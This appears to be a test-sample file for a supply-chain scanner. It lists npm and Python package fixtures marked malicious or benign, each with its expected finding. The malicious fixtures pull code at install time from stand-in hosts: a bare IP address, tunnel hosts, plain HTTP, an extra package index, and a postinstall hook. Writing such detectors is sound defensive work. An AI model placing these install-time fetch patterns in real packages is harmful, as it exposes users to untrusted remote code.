import type { Samples } from '../contract.ts';
import { at, manifest, quiet, sdist } from '../samples-kit.ts';
import { METADATA_PATH, metadata, WHEEL, wheel } from '../wheel-kit.ts';

const LINE = 5;

function depends(field: string, spec: string): Record<string, string> {
  return { 'package.json': manifest({ [field]: { helper: spec } }), 'index.js': 'module.exports = 1;\n' };
}

/** Dependencies of which the last one comes from a bare address. */
function dependsLast(count: number, spec: string): Record<string, string> {
  const before = Array.from({ length: count }, (_, index) => [`helper-${index}`, spec]);
  const dependencies = Object.fromEntries([...before, ['last', 'http://192.0.2.7:8080/helper.tgz']]);
  return { 'package.json': manifest({ dependencies }), 'index.js': 'module.exports = 1;\n' };
}

function locked(resolved: string): Record<string, string> {
  const packages = { '': {}, 'node_modules/helper': { version: '1.0.0', resolved } };
  return {
    'package.json': manifest({ dependencies: { helper: '^1.0.0' } }),
    'npm-shrinkwrap.json': JSON.stringify({ lockfileVersion: 3, packages }, null, 0).replaceAll('{', '{\n'),
    'index.js': 'module.exports = 1;\n',
  };
}

/** `host` is on line 9. */
function prebuilt(host: string, remotePath = './v{version}/', more: object = {}): Record<string, string> {
  const scripts = { install: 'node-pre-gyp install --fallback-to-build' };
  const binary = { module_name: 'own', host, remote_path: remotePath };
  return { 'package.json': manifest({ scripts, binary, ...more }), 'index.js': 'module.exports = 1;\n' };
}

export const samples: Samples = {
  malicious: [
    {
      name: 'native code from a bare address',
      files: prebuilt('http://192.0.2.7/'),
      expected: [at('address', 'high', 'package.json', 9)],
    },
    {
      name: 'native code from a free host',
      files: prebuilt('https://own.free.weir.test/'),
      expected: [at('native-host', 'high', 'package.json', 9)],
    },
    {
      name: 'native code from a host that the path names',
      files: prebuilt('https://github.com/own/own/releases/', '//x.tunnel.weir.test/v{version}'),
      expected: [at('drop-host', 'high', 'package.json', 9)],
    },
    {
      name: 'native code without encryption',
      files: prebuilt('http://files.weir.test/'),
      expected: [at('native-host', 'medium', 'package.json', 9)],
    },
    {
      name: 'a bare address behind sixty repositories',
      files: dependsLast(60, 'github:helper/helper'),
      expected: [at('address', 'high', 'package.json', LINE + 60)],
    },
    {
      name: 'a bare address behind thousands of names',
      files: dependsLast(5_001, '^1.0.0'),
      expected: [at('address', 'high', 'package.json', LINE + 5_001)],
    },
    {
      name: 'Python: a requirement by its address',
      files: sdist(
        "from setuptools import setup\nsetup(name='own', install_requires=[\n    'other @ https://files.weir.test/other-1.0.tar.gz'])\n",
      ),
      expected: [{ rule: 'foreign-host', file: 'setup.py', line: 3, severity: 'high' }],
    },
    {
      name: 'Python: an index at a bare address, in a requirements file that the setup script reads',
      files: sdist(
        "from setuptools import setup\nsetup(name='own', install_requires=open('requirements.txt').read().splitlines())\n",
        { 'requirements.txt': 'requests>=2\n--extra-index-url http://192.0.2.7/simple\n' },
      ),
      expected: [{ rule: 'foreign-index', file: 'requirements.txt', line: 2, severity: 'high' }],
    },
    {
      name: 'Python: a wheel that requires by address',
      filename: WHEEL,
      files: wheel({
        [METADATA_PATH]: metadata([
          'Requires-Dist: other @ https://files.weir.test/other-1.0-py3-none-any.whl',
        ]),
        'acme/__init__.py': '',
      }),
      expected: [{ rule: 'foreign-host', file: METADATA_PATH, line: 4, severity: 'medium' }],
    },
    {
      name: 'Python: what the build asks for, by its address',
      files: sdist('from setuptools import setup\nsetup()\n', {
        'pyproject.toml':
          '[build-system]\nrequires = [\n  "setuptools",\n  "other @ https://files.weir.test/other.whl",\n]\n',
      }),
      expected: [{ rule: 'foreign-host', file: 'pyproject.toml', line: 4, severity: 'high' }],
    },
    {
      name: 'a bare address',
      files: depends('dependencies', 'http://192.0.2.7:8080/helper.tgz'),
      expected: [at('address', 'high', 'package.json', LINE)],
    },
    {
      name: 'a tunnel',
      files: depends('dependencies', 'https://x.tunnel.weir.test/helper.tgz'),
      expected: [at('drop-host', 'high', 'package.json', LINE)],
    },
    {
      name: 'plain HTTP',
      files: depends('dependencies', 'http://packages.weir.test/npm/helper'),
      expected: [at('plain-http', 'high', 'package.json', LINE)],
    },
    {
      name: 'an optional commit',
      files: depends('optionalDependencies', `github:someone/helper#${'0a'.repeat(20)}`),
      expected: [at('optional-commit', 'high', 'package.json', LINE)],
    },
    {
      name: 'an archive somewhere',
      files: depends('dependencies', 'https://files.weir.test/helper.tgz'),
      expected: [at('foreign-host', 'medium', 'package.json', LINE)],
    },
    {
      name: 'an archive that a lock file fixes',
      files: locked('https://files.weir.test/helper.tgz'),
      expected: [{ rule: 'foreign-host', file: 'npm-shrinkwrap.json', line: 5, severity: 'medium' }],
    },
    {
      name: 'a dependency of a folder that a hook installs',
      files: {
        'package.json': manifest({ scripts: { postinstall: 'npm i --prefix sub' } }),
        'sub/package.json': JSON.stringify({ dependencies: { helper: 'http://192.0.2.7/helper.tgz' } }),
      },
      expected: [{ rule: 'address', file: 'sub/package.json', line: 1, severity: 'high' }],
    },
  ],
  benign: [
    quiet('native code from releases', prebuilt('https://github.com/own/own/releases/download/')),
    quiet('native code from a bucket', prebuilt('https://own-builds.s3.amazonaws.com')),
    quiet('native code from an old bucket', prebuilt('http://own.s3-website-us-east-1.amazonaws.com')),
    quiet('native code from a server for builds', prebuilt('https://builds.weir.test/')),
    quiet(
      "native code from the project's own server",
      prebuilt('http://builds.own.test/', undefined, { homepage: 'https://own.test/' }),
    ),
    quiet('an address that nothing fetches from', {
      'package.json': manifest({ binary: { host: 'http://192.0.2.7/' } }),
      'index.js': 'module.exports = 1;\n',
    }),
    quiet('a lock file of a mirror', locked('http://npm.weir.test/helper/-/helper-1.0.0.tgz')),
    quiet('a lock file with a repository', locked('git+https://github.com/weir-test/helper.git#0a')),
    quiet(
      'Python: a requirement from a repository',
      sdist(
        "from setuptools import setup\nsetup(name='own', install_requires=['other @ git+https://github.com/weir-test/other'])\n",
      ),
    ),
    quiet(
      'Python: an index in a requirements file that nobody reads',
      sdist("from setuptools import setup\nsetup(name='own')\n", {
        'requirements.txt': 'requests>=2\n--extra-index-url https://index.weir.test/simple\n',
      }),
    ),
    quiet('the registry', depends('dependencies', '^1.2.3')),
    quiet('a repository', depends('dependencies', 'github:someone/helper#v1.0.0')),
    quiet(
      'an archive of a code host',
      depends('dependencies', 'https://github.com/someone/helper/archive/v1.tar.gz'),
    ),
    quiet('a development tool', depends('devDependencies', 'http://192.0.2.7/helper.tgz')),
    quiet('a workspace', depends('dependencies', 'workspace:*')),
    quiet('an alias', depends('dependencies', 'npm:other@1.0.0')),
  ],
};
